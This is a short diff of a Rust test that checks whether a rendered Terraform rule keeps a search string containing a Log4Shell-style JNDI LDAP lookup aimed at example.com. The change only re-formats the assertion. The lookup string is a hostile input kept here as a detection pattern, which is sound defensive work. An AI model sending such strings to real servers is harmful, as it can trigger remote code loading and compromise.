@@ -179,5 +179,7 @@ fn each_form_keeps_the_texts_that_are_looked_for() {
     ];
     assert_eq!(found, expected);
     let terraform = render(&plan, Form::Terraform).unwrap();
-    assert!(terraform.contains(r#"search_string = "$${jndi:ldap://example.com/a}%%{x}\\""#));
+    assert!(
+        terraform.contains(r#"search_string         = "$${jndi:ldap://example.com/a}%%{x}\\""#)
+    );
 }
